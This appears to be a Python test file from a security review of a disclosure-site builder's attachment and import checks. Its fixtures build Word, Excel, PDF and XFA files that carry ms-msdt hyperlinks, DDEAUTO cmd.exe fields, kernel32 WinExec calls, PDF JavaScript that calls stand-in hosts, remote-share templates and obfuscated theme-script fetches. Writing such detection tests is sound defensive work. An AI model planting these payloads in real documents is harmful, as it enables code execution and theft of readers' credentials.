r"""Holes round seventeen's review left open (issue 24), each closed by its class rather than by one more pattern.
Each test goes through the real thing (`disclosure check`, `mkdocs build`, `disclosure import`) and failed on main
before its fix.
"""

from __future__ import annotations

from .sitekit import check, paired_policy, policy, write_site
from .test_merge_verifies import built, platform  # noqa: F401  (the fixtures)
from .test_redteam12 import NOTE


def _attachment_codes(tmp_path, attachments: dict[str, bytes]) -> dict[str, set[str]]:
    """Each attachment's codes in `disclosure check` of a site publishing them all."""
    source = policy(attachments=[{"file": f"files/{name}", "title": name} for name in attachments])
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source,
                                 **{f"policies/files/{name}": data for name, data in attachments.items()}})
    lines = check(root).coded_lines()
    found = {name: {line.split(" ")[1] for line in lines if f"附件“{name}”" in line} for name in attachments}
    assert all(any(f"附件“{name}”" in line for name in attachments) for line in lines), lines
    return found


# --- 6. a template on another machine, however the file: URL names it (privacy/attachment_parts.py, E404) --------

def _template(target: str) -> bytes:
    from .test_redteam15 import _template as template
    return template(target)


TEMPLATES_ELSEWHERE = {
    "unc-in-url.docx": _template("file:///\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "four-slashes.docx": _template("file:////fileserver.example.invalid/share/公文模板.dotm"),
    "backslashes.docx": _template("file:\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "two-then-unc.docx": _template("file://\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
    "three-backslashes.docx": _template("\\\\\\fileserver.example.invalid\\share\\公文模板.dotm"),
}
TEMPLATES_HERE = {
    "drive.docx": _template("file:///C:/Users/admin/AppData/Roaming/Microsoft/Templates/公文模板.dotm"),
    "drive-backslash.docx": _template("file:///C:\\Users\\admin\\公文模板.dotm"),
    "localhost.docx": _template("file://localhost/C:/模板/公文模板.dotm"),
    "drive-bar.docx": _template("file:///C|/模板/公文模板.dotm"),
    "path.docx": _template("C:\\Users\\admin\\公文模板.dotm"),
}


def test_a_template_on_another_machine_is_refused_however_the_url_names_it(tmp_path):
    r"""Word fetches a document's template when opening it; one on another machine's share sends it the reader's
    Windows sign-in. `file:///\\host\share\x.dotm`, `file:////host/…` and other spellings of a share passed, as only
    file://host/ was read for one. Now a file: address is the reader's own disk only in the forms that name one
    (file:///C:/…, file://localhost/C:/…, file:///path); every other spelling is another machine (E404)."""
    found = _attachment_codes(tmp_path, {**TEMPLATES_ELSEWHERE, **TEMPLATES_HERE})
    assert {name for name, codes in found.items() if codes} == set(TEMPLATES_ELSEWHERE), found
    assert all(found[name] == {"E404"} for name in TEMPLATES_ELSEWHERE), found


# --- 5. PDF: a script anywhere, an action fetching with no click (privacy/attachment_pdf.py, E401, E404) -----------

def _widget(action: str) -> bytes:
    """A form's push button (a widget of field type Btn) whose click runs `action`."""
    from .attachmentkit import raw_pdf
    return raw_pdf("Notice text", annotations="<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (print) "
                                              f"/Rect [10 10 200 40] /P 3 0 R {action} >>")


def _packed_widget(action: bytes) -> bytes:
    """The push button's action packed compressed in an object stream (object 9), as Acrobat saves it."""
    from .attachmentkit import with_packed_object
    return with_packed_object(_widget("/A 9 0 R"), action)


def _page_actions(actions: str) -> bytes:
    from .test_redteam17 import _pdf_opening
    return _pdf_opening("", page=f"/AA << {actions} >>")


LAUNCH_URL = "<< /S /JavaScript /JS (app.launchURL\\('https://x.example.invalid/'\\)) >>"
PDF_SCRIPTS = {   # E401: a script runs on the reader's machine
    "button-js.pdf": _widget(f"/A {LAUNCH_URL}"),
    "button-js-packed.pdf": _packed_widget(LAUNCH_URL.encode()),
    "button-js-escaped.pdf": _widget("/A << /S /Java#53cript /J#53 (this.submitForm\\('https://x.example.invalid/'\\)) >>"),
    "button-js-hex.pdf": _widget("/A << /S /JavaScript /JS <" + "app.launchURL(1)".encode().hex() + "> >>"),
    "button-js-stream.pdf": _widget("/A << /S /JavaScript /JS 4 0 R >>"),
    "page-close-js.pdf": _page_actions(f"/C {LAUNCH_URL}"),
    "field-keystroke-js.pdf": _widget(f"/AA << /K {LAUNCH_URL} >>"),
    "print-to-a-share.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: false, printerName: "
                                    "'\\\\\\\\\\\\\\\\files.example.invalid\\\\\\\\p'}\\)) >>"),
}
PDF_FETCHES = {   # E404: asks another host with no click
    "page-close-uri.pdf": _page_actions("/C << /S /URI /URI (https://track.example.invalid/closed) >>"),
    "hover-uri.pdf": _widget("/AA << /E << /S /URI /URI (https://track.example.invalid/hover) >> >>"),
    "focus-submit.pdf": _widget("/AA << /Fo << /S /SubmitForm /F << /FS /URL /F (https://collect.example.invalid/in) >> >> >>"),
}
PDF_KEPT = {   # a click on a plain link or button, Acrobat's own formatting and print/reset buttons
    "button-print.pdf": _widget("/A << /S /JavaScript /JS (this.print\\(\\);) >>"),
    "button-reset.pdf": _widget("/A << /S /JavaScript /JS (this.resetForm\\(\\);) >>"),
    "button-print-options.pdf": _widget("/A << /S /JavaScript /JS (this.print\\({bUI: true, bSilent: false, bShrinkToFit: true}\\);) >>"),
    "button-web.pdf": _widget("/A << /S /URI /URI (https://www.gov.cn/) >>"),
    "button-up-web.pdf": _widget("/AA << /U << /S /URI /URI (https://www.gov.cn/) >> >>"),
    "field-format.pdf": _widget("/AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\\\\u20ac \", true\\);) >> "
                                "/K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, \"\", true\\);) >> "
                                "/C << /S /JavaScript /JS (AFSimple_Calculate\\(\"SUM\", new Array \\(\"a\", \"b\"\\)\\);) >> >>"),
    "field-date.pdf": _widget("/AA << /K << /S /JavaScript /JS (AFDate_KeystrokeEx\\(\"yyyy-mm-dd\"\\)) >> >>"),
    "page-close-goto.pdf": _page_actions("/C << /S /GoTo /D [3 0 R /Fit] >>"),
}


def test_a_pdf_script_anywhere_or_a_fetch_with_no_click_is_refused(tmp_path):
    """Round seventeen read scripts run on opening and on a link's click: a form's push button whose click runs a
    script (app.launchURL, this.submitForm to another host), a page's script on closing (/C), a field's keystroke
    script, and a fetch on closing a page, hovering or focusing a field, passed. The class now: every script of the
    document (object streams included) is E401 unless it is recognised as harmless — Acrobat's own formatting calls
    (AFNumber_Format …) and a print or reset button, with plain values only; a script in a stream is not read, so not
    recognised. Every action that fetches from another host (URI, SubmitForm) is E404 unless a click runs it (a
    link's or button's action, a mouse-up)."""
    found = _attachment_codes(tmp_path, {**PDF_SCRIPTS, **PDF_FETCHES, **PDF_KEPT})
    assert {name for name, codes in found.items() if "E401" in codes} == set(PDF_SCRIPTS), found
    assert {name for name, codes in found.items() if "E404" in codes} == set(PDF_FETCHES), found
    assert all(not found[name] for name in PDF_KEPT), found


# --- 3. .xls formulas as Excel 97–2003 keeps them: shared, array, named, computed (privacy/attachment_parts.py) ------

def _text(value: str) -> bytes:
    """A formula's text token (tStr), UTF-16 as Excel writes Chinese."""
    import struct
    return struct.pack("<BBB", 0x17, len(value), 1) + value.encode("utf-16-le")


def _call(index: int, count: int) -> bytes:
    """A call of Excel's function number `index` with `count` arguments (tFuncVar)."""
    import struct
    return struct.pack("<BBH", 0x22, count, index)


def _xls_tokens(tokens: bytes, kind: str = "cell") -> bytes:
    """An Excel 97–2003 workbook whose cell B2 holds the formula `tokens`: as a cell's own formula, as a shared one
    (a filled range: the cell's FORMULA points at a SHRFMLA record by tExp) or as an array formula (Ctrl+Shift+Enter:
    an ARRAY record). xlwt writes the workbook with a formula there; its record is replaced."""
    import io
    import struct

    import xlwt
    from xlwt.CompoundDoc import XlsDoc
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("名单")
    sheet.write(0, 0, "合计")
    sheet.write(1, 1, xlwt.Formula("1+1"))
    stream = bytearray(workbook.get_biff_data())
    at = len(stream)
    while True:   # the last FORMULA record: the sheet's only one
        at = stream.rfind(b"\x06\x00", 0, at)
        if struct.unpack_from("<HH", stream, at + 4) == (1, 1):
            break
    size = struct.unpack_from("<H", stream, at + 2)[0]
    head = bytes(stream[at + 4:at + 4 + 20])
    reference = struct.pack("<HHBB", 1, 1, 1, 1)
    if kind == "cell":
        records = struct.pack("<HH", 0x0006, 22 + len(tokens)) + head + struct.pack("<H", len(tokens)) + tokens
    else:
        pointer = struct.pack("<BHH", 0x01, 1, 1)
        cell = head[:14] + struct.pack("<H", 0x0008 if kind == "shared" else 0x0000) + head[16:]
        holder = (reference + b"\x00\x01" if kind == "shared" else reference + struct.pack("<HI", 0, 0)) + struct.pack("<H", len(tokens)) + tokens
        records = (struct.pack("<HH", 0x0006, 22 + len(pointer)) + cell + struct.pack("<H", len(pointer)) + pointer
                   + struct.pack("<HH", 0x04BC if kind == "shared" else 0x0221, len(holder)) + holder)
    stream[at:at + 4 + size] = records
    out = io.BytesIO()
    XlsDoc().save(out, bytes(stream))
    return out.getvalue()


MSDT = "ms-msdt:/id PCWDiagnostic /skip force"
HYPERLINK = 359
XLS_RUNNING = {   # E401
    "shared.xls": _xls_tokens(_text(MSDT) + _text("点此查看") + _call(HYPERLINK, 2), "shared"),
    "array.xls": _xls_tokens(_text(MSDT) + _text("点此查看") + _call(HYPERLINK, 2), "array"),
    "joined.xls": _xls_tokens(_text("ms-") + _text("msdt:/id PCWDiagnostic") + b"\x08" + _call(HYPERLINK, 1)),
    "from-a-cell.xls": _xls_tokens(b"\x24\x00\x00\x00\x00" + _call(HYPERLINK, 1)),
    "call.xls": _xls_tokens(_text("kernel32") + _text("WinExec") + _text("JCJ") + _text("calc") + b"\x1e\x00\x00"
                            + _call(150, 5), "shared"),
}
XLS_FETCHING = {   # E404
    "rtd.xls": _xls_tokens(_text("rtd.server") + _text("stat.example.invalid") + _text("x") + _call(379, 3), "array"),
}
def _future_function(name: str) -> bytes:
    """A workbook keeping a function newer than Excel 97 as a hidden defined name (_xlfn.WEBSERVICE), as Excel does."""
    import struct

    from .test_redteam16 import xls_with_global
    body = struct.pack("<HBBH", 0x0021, 0, len(name), 0) + bytes(8) + b"\x00" + name.encode("latin-1")
    return xls_with_global(struct.pack("<HH", 0x0018, len(body)) + body)


def _linked_workbook(path: str) -> bytes:
    from .test_redteam16 import _xls_dde
    return _xls_dde(path, sheets=1)


XLS_FETCHING.update({
    "webservice.xls": _future_function("_xlfn.WEBSERVICE"),
    "share-workbook.xls": _linked_workbook("\x01@fileserver.example.invalid\x03share\x03roster.xls"),
    "url-workbook.xls": _linked_workbook("\x01\x05\x1fhttps://stat.example.invalid/a.xls"),
})
XLS_KEPT = {
    "sibling-workbook.xls": _linked_workbook("\x02roster2.xls"),
    "drive-workbook.xls": _linked_workbook("\x01C\x03data\x03roster2.xls"),
    "future-sum.xls": _future_function("_xlfn.CONCAT"),
    "shared-web.xls": _xls_tokens(_text("https://www.gov.cn/") + _text("中国政府网") + _call(HYPERLINK, 2), "shared"),
    "web-and-a-cell.xls": _xls_tokens(_text("https://www.gov.cn/zhengce/") + b"\x24\x00\x00\x00\x00" + b"\x08"
                                      + _call(HYPERLINK, 1), "array"),
    "place.xls": _xls_tokens(_text("#名单!") + b"\x24\x00\x00\x00\x00" + b"\x08" + _call(HYPERLINK, 1)),
    "sum.xls": _xls_tokens(b"\x1e\x01\x00\x1e\x02\x00\x03", "shared"),
}


def test_an_xls_formula_shared_array_or_computed_reaching_a_program_is_refused(tmp_path):
    """Round sixteen and seventeen read an .xls cell's own formula for a literal HYPERLINK("ms-msdt:…") only: the same
    call as a shared formula (a range filled down: SHRFMLA), an array formula (ARRAY), a target joined from texts
    ("ms-"&"msdt:…") or taken from a cell, and CALL("kernel32";"WinExec";…) passed, as RTD (a server elsewhere) did.
    Each formula is now read token by token (E401, E404 as an .xlsx's); a computed target stays allowed when its known
    start fixes a web link or a place in the workbook (https://…&A1, #名单!&A1)."""
    found = _attachment_codes(tmp_path, {**XLS_RUNNING, **XLS_FETCHING, **XLS_KEPT})
    assert {name for name, codes in found.items() if codes} == set(XLS_RUNNING) | set(XLS_FETCHING), found
    assert all(found[name] == {"E401"} for name in XLS_RUNNING) and all(found[name] == {"E404"} for name in XLS_FETCHING), found


# --- 4. a Word 97–2003 .doc's fields (privacy/attachment_parts.py: E401, E404 that `checked:` does not wave through) --

def _doc(*fields: str) -> bytes:
    from .attachmentkit import word97
    return word97("关于开展检查的通知\r" + "".join(f"\x13{field}\x14\x01\x15" for field in fields) + "正文。\r")


DOC_RUNNING = {
    "ddeauto.doc": _doc(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
    "msdt.doc": _doc(' HYPERLINK "ms-msdt:/id PCWDiagnostic /skip force" '),
    "nested.doc": _doc(' IF 1 = 1 \x13 DDE cmd "/c calc" \x14\x15 '),
}
DOC_LOADING = {
    "includepicture.doc": _doc(' INCLUDEPICTURE "https://stat.example.invalid/a.png" \\* MERGEFORMATINET '),
    "includetext.doc": _doc(' INCLUDETEXT "\\\\\\\\fileserver.example.invalid\\\\share\\\\a.doc" '),
}
DOC_KEPT = {
    "web.doc": _doc(' HYPERLINK "https://www.gov.cn/" '),
    "page.doc": _doc(" PAGE \\* MERGEFORMAT "),
    "toc.doc": _doc(' TOC \\o "1-3" \\h \\z \\u '),
}


def test_a_doc_field_running_a_program_or_loading_is_refused_though_checked(tmp_path):
    """A .doc was W400 (its text unread) and `checked:` turned that into I400: its DDEAUTO, INCLUDEPICTURE "https://…",
    INCLUDETEXT from a share or HYPERLINK to ms-msdt: was published. Its fields are now read through the document's
    piece table (the body, headers, text boxes alike, nested fields too): E401 or E404 as a .docx's, which a person's
    `checked:` (that the text holds no personal data) does not turn into I400. A page number, a table of contents and a
    web link stay, the text still W400 → I400 by hand."""
    attachments = {**DOC_RUNNING, **DOC_LOADING, **DOC_KEPT}
    source = policy(attachments=[{"file": f"files/{name}", "title": name, "checked": "张三 2026-03-01 已核对无个人信息"}
                                 for name in attachments])
    root = write_site(tmp_path, {**paired_policy(), "policies/a.md": source,
                                 **{f"policies/files/{name}": data for name, data in attachments.items()}})
    run = check(root)
    found = {name: {line.split(" ")[1] for line in run.output.splitlines() if f"附件“{name}”" in line} for name in attachments}
    assert {name for name, codes in found.items() if "E401" in codes} == set(DOC_RUNNING), run.output
    assert {name for name, codes in found.items() if "E404" in codes} == set(DOC_LOADING), run.output
    assert all(codes - {"E401", "E404"} == {"I400"} for codes in found.values()), run.output


# --- 2. a theme script reaching a property by a name it computes (rules/rendered.py `script_loading`, E404) ------

COMPUTED_NAMES = {   # case → a line of a script in the theme folder the project does not ship
    "an element's property by a variable": "document.images[0][k] = address;",
    "a global by a name built from pieces": "this['fe' + 'tch'](address);",
    "an alias of a global, then a variable": "var w = window.self; w[k](address);",
    "a name in a template": "img[`${a}${b}`] = address;",
    "a name from a call": "img[name()] = address;",
    "an attribute node's value": "img.attributes.src.value = address;",
    "an attribute node asked for": "img.getAttributeNode('src').value = address;",
}
NAMED_PLAINLY = ('var title = data["title"]; var first = rows[0]; var list = [1, 2]; var [a, b] = list;\n'
                 'items.forEach(function (item) { item.classList.add("x"); }); el.textContent = label;\n'
                 'for (const row of rows) { row.hidden = false; } var pair = {a: [1], b: [2]}; input.value = "";\n')


def test_a_theme_script_reaching_a_property_by_a_computed_name_is_refused(tmp_path):
    """Rounds twelve and thirteen left open `x[k] = u` on an element the script did not make, `this['fe'+'tch']`
    and the like: a property named at run time can be any of them (src, fetch …), so no list of loading calls
    sees it. A theme script the project does not ship may now name every property it reaches: a name computed at
    run time (a variable, an expression, a template with ${…}) is E404 on its line, as are an attribute node's
    value (attributes.src.value, getAttributeNode). A literal index (rows[0]), a name written as a string
    (data["title"]), arrays and destructuring stay; a loop over elements is written with forEach or for…of."""
    from .test_redteam12 import assert_each_line_refused
    assert_each_line_refused(tmp_path, COMPUTED_NAMES, NAMED_PLAINLY)


# --- 7. import: a marquee, a fixed cover, a cover placed from a further ancestor (importer/colours.py, htmlpage.py) --

_WHITE_BOX = "background:#fff;z-index:9"
FURTHER_COVERS = {   # case → (<style> for the head, the body's part), in order: hidden ones, then the ones seen
    "a marquee": ("", f"<marquee>{NOTE}</marquee>"),
    "a marquee of one pixel": ("", f'<marquee width="1" scrollamount="1">{NOTE}</marquee>'),
    "a cover from inside a wrapper": (f".w{{position:relative}}.cover{{position:absolute;inset:0;{_WHITE_BOX}}}",
                                      f'<div class="w"><p>{NOTE}</p><div><div class="cover"></div></div></div>'),
    "a cover two levels in, the note one in": ("", f'<div style="position:relative"><div><p>{NOTE}</p></div><div><span>'
                                                   f'<i style="position:absolute;top:0;left:0;width:100%;height:100%;{_WHITE_BOX}">'
                                                   '</i></span></div></div>'),
    # seen: kept
    "a loading screen the page's script removes": ("", f'<div id="loading" style="position:fixed;inset:0;{_WHITE_BOX}">加载中</div>'
                                                       f'<p>{NOTE}</p><script>document.getElementById("loading").remove();</script>'),
    "a fixed bar at the top": ("", f'<div style="position:fixed;top:0;left:0;width:100%;height:48px;{_WHITE_BOX}">导航</div><p>{NOTE}</p>'),
    "a cover whose wrapper is placed inside the note's box": ("", f'<div><p>{NOTE}</p><div style="position:relative">'
                                                                 f'<div style="position:absolute;inset:0;{_WHITE_BOX}"></div>'
                                                                 '<img src="a.png" alt=""></div></div>'),
    "a fixed cover not drawn": ("", f'<div style="position:fixed;inset:0;{_WHITE_BOX};display:none"></div><p>{NOTE}</p>'),
}


def test_text_in_a_marquee_or_under_a_further_ancestors_cover_is_not_imported(tmp_path):
    """Round fifteen left open a <marquee> (its text scrolls by: a one-pixel marquee shows none of it, and a ticker
    is no document's text) and a cover placed from a positioned ancestor further up than its parent: the box it
    covers is that ancestor, not the parent. Each is left out now. A loading screen the page's own script removes
    (its id named in a <script>), a fixed bar of a few lines, a cover inside a smaller placed box and a cover the
    page does not draw keep the note."""
    from .test_redteam12 import assert_note_kept_from
    assert_note_kept_from(tmp_path, FURTHER_COVERS, "a loading screen the page's script removes")


FIXED_COVERS = {
    "inset": f'<p>{NOTE}</p><div style="position:fixed;inset:0;{_WHITE_BOX}"></div>',
    "a class": f'<div class="mask"></div><div><p>{NOTE}</p></div>',
    "the window's units": f'<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;{_WHITE_BOX}"></div><p>{NOTE}</p>',
}


def test_a_page_under_a_fixed_cover_is_not_imported(tmp_path):
    """An opaque box of position:fixed over the whole window hides all of the page, however far a reader scrolls:
    round fifteen kept it (a loading screen a script removes). One no script of the page names covers the page's
    every line now, its metadata too: the page is not imported (the report says so) and the note is nowhere."""
    import sys

    from .sitekit import _run
    from .test_import import CMS_CATALOGUE, TABLES, by_source, report_of
    from .test_redteam4 import SAVED
    root = write_site(tmp_path / "site", {}, catalogue=CMS_CATALOGUE, mkdocs_extra=TABLES)
    folder = tmp_path / "old"
    folder.mkdir()
    sheet = f"<style>.mask{{position:fixed;top:0;left:0;width:100%;height:100%;{_WHITE_BOX}}}</style>"
    for number, hidden in enumerate(FIXED_COVERS.values()):
        (folder / f"p{number}.html").write_text(SAVED.format(hidden=hidden).replace("<title>", sheet + "<title>", 1)
                                                .replace("2025-00600", f"2025-{601 + number:05d}"), encoding="utf-8")
    done = _run([sys.executable, "-m", "disclosure.cli.main", "import", str(folder), "--type", "notice", "--report", "r.json"],
                root, timeout=120)
    assert "Traceback" not in done.stderr, done.stderr
    pages = by_source(report_of(root, "r.json"))
    assert [name for name, page in pages.items() if page.get("target")] == [], pages
    assert not any("罚款三十万元" in path.read_text(encoding="utf-8") for path in (root / "content").rglob("*.md"))


# --- 1. the merge: a withheld body's short pieces, a name and a number (content/merge_facts.py, text/runs.py) ------

SHORT_SENTENCE = "罚没张某某五万元。"                 # a withheld paragraph of one short sentence: 8 characters
NAME_AND_NUMBER = "| 李某某 | 8000元 |"              # a withheld table's row: 李某某8000元, 8 characters
LONG_PARAGRAPH = "经研究，同意对示例某公司的举报线索立案调查，由稽查一科负责，调查结果暂不对外公布。"


def test_a_withheld_bodys_short_pieces_copied_into_a_unit_page_are_refused(platform):
    """Rounds twelve and thirteen looked for a withheld passage of ten characters or more only: a short paragraph
    (罚没张某某五万元。) and a table row's name and amount (李某某 8000元) were merged. What tells them from common
    phrasing is not their length but that no public source holds them: a passage of six characters or more held whole
    now counts (each line of a paragraph and each row of an attachment is a passage of its own), still only where no
    public document, catalogue.yaml or mkdocs.yml holds it. A page sharing a public document's boilerplate (各有关单位,
    特此通知) with the body, five characters of it, or eight of a longer paragraph is merged."""
    from .test_merge_verifies import refused
    from .test_redteam4 import UNIT_PAGE, _withheld_body
    from .test_redteam12 import handed_over_changed, named_with
    _withheld_body(platform, f"各有关单位：\n\n{SHORT_SENTENCE}\n\n| 姓名 | 金额 |\n|---|---|\n{NAME_AND_NUMBER}\n| 王某 | 300元 |\n\n"
                             f"{LONG_PARAGRAPH}\n\n特此通知。")
    public = platform / "content/jyj/guide/guide.md"
    public.write_text(public.read_text(encoding="utf-8") + "\n各有关单位：\n\n特此通知。\n", encoding="utf-8")
    changes = {
        UNIT_PAGE: ("</main>", f"<p>另：{SHORT_SENTENCE}</p></main>"),
        "jyj/index.html": ("</main>", "<table><tr><td>李某某</td><td>8000元</td></tr></table></main>"),
    }
    kept = {"jyj/fees/index.html": ("</main>", "<p>各有关单位：</p><p>特此通知。</p><p>张某某五万</p><p>同意对示例某公司</p></main>")}
    handed_over_changed(platform, "jyj", {**changes, **kept})
    output = refused(platform)
    assert named_with(output, "jyj", {**changes, **kept}, "content/jyj/fees/secret.md") == set(changes), output


def test_a_withheld_bodys_label_line_every_page_prints_is_no_copy(platform):
    """The false positive the short passages bring (measured: a seed's 版记 line 公开方式：主动公开 on all 1,000 pages of
    the bench site): a withheld body's short line of a label and a value that every public page's metadata table
    prints (the theme's label, a public value) is no copy of it; the same line with a name (申请人：李某某) is."""
    from .test_merge_verifies import refused
    from .test_redteam4 import UNIT_PAGE, _withheld_body
    from .test_redteam12 import handed_over_changed, named_with
    _withheld_body(platform, "公开方式：主动公开\n\n申请人：李某某某\n")
    changes = {UNIT_PAGE: ("</main>", "<p>申请人：李某某某</p></main>")}
    kept = {"jyj/index.html": ("</main>", "<table><tr><th>公开方式</th><td>主动公开</td></tr></table></main>")}
    handed_over_changed(platform, "jyj", {**changes, **kept})
    output = refused(platform)
    assert named_with(output, "jyj", {**changes, **kept}, "content/jyj/fees/secret.md") == set(changes), output


def test_one_row_of_a_long_withheld_list_copied_into_a_unit_page_is_refused(platform):
    """A withheld list of more rows than are looked for as one pattern (text/runs.py SHORT_PATTERN_MAX): its short
    rows are looked up through their own index instead; one row copied is still E700."""
    from disclosure.text.runs import SHORT_PATTERN_MAX

    from .test_merge_verifies import refused
    from .test_redteam4 import UNIT_PAGE, _withheld_body
    from .test_redteam12 import handed_over_changed, named_with
    rows = [f"| 王{number:03d} | {number * 7}元 |" for number in range(SHORT_PATTERN_MAX + 1)]   # 王1501050元: 9
    _withheld_body(platform, "| 姓名 | 金额 |\n|---|---|\n" + "\n".join(rows) + "\n")
    changes = {UNIT_PAGE: ("</main>", "<table><tr><td>王150</td><td>1050元</td></tr></table></main>")}
    handed_over_changed(platform, "jyj", changes)
    assert named_with(refused(platform), "jyj", changes, "content/jyj/fees/secret.md") == set(changes)


SHEET_TARGETS_REFUSED = {"joined.csv", "from-a-cell.xlsx", "joined.ods"}


def test_a_sheets_hyperlink_target_joined_or_computed_is_read_as_an_xls_one(tmp_path):
    """The same rule for the other spreadsheets as for an .xls: =HYPERLINK("ms-"&"msdt:…") passed (the first text
    alone was read) and =HYPERLINK(A1) too; a target computed from cells is refused unless its known start fixes a
    web link or a place in the workbook. A text merely naming HYPERLINK( stays."""
    from .test_redteam15 import _csv, _ods, _xlsx
    made = {"joined.csv": _csv('=HYPERLINK("ms-"&"msdt:/id PCWDiagnostic";"点此")'),
            "from-a-cell.xlsx": _xlsx('=HYPERLINK(C1,"点此")'),
            "joined.ods": _ods('of:=HYPERLINK("search-"&"ms:query=a";"点此")'),
            "web-and-a-cell.csv": _csv('=HYPERLINK("https://www.gov.cn/zhengce/"&A1;"点此")'),
            "place.xlsx": _xlsx('=HYPERLINK("#名单!"&A1,"点此")'),
            "a-text-naming-it.csv": _csv('="见 HYPERLINK(A1) 的说明"')}
    found = _attachment_codes(tmp_path, made)
    # (a target computed from cells is also W400 in an .xlsx or .ods: the cell's shown value is not worked out)
    assert {name for name, codes in found.items() if "E401" in codes} == SHEET_TARGETS_REFUSED, found


def _xfa(template: str) -> bytes:
    """A PDF with an XFA form: the AcroForm's /XFA names a stream holding the form's template (object 9)."""
    from .test_redteam17 import _pdf_opening
    packet = f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>{template}</template></xdp:xdp>'
    return _pdf_opening("/AcroForm << /Fields [] /XFA 9 0 R >>",
                        f"<< /Length {len(packet.encode())} >>\nstream\n{packet}\nendstream")


XFA_SCRIPTS = {"xfa-js.pdf": _xfa('<subform><field name="a"><event activity="click"><script contentType="application/'
                                  'x-javascript">app.launchURL("https://x.example.invalid/")</script></event></field></subform>'),
               "xfa-formcalc.pdf": _xfa('<subform><event activity="initialize"><script>xfa.host.gotoURL("https://x.example.invalid/")'
                                        "</script></event></subform>")}
XFA_KEPT = {"xfa-plain.pdf": _xfa('<subform><field name="amount"><ui><numericEdit/></ui></field></subform>')}


def test_an_xfa_forms_script_is_refused(tmp_path):
    """A PDF form made in Adobe LiveCycle (XFA) keeps its scripts in the form's template, a stream no other check read:
    JavaScript or FormCalc that Acrobat and WPS run on the form's events. E401 now; an XFA form with no script stays."""
    found = _attachment_codes(tmp_path, {**XFA_SCRIPTS, **XFA_KEPT})
    assert {name for name, codes in found.items() if "E401" in codes} == set(XFA_SCRIPTS), found
    assert not found["xfa-plain.pdf"], found
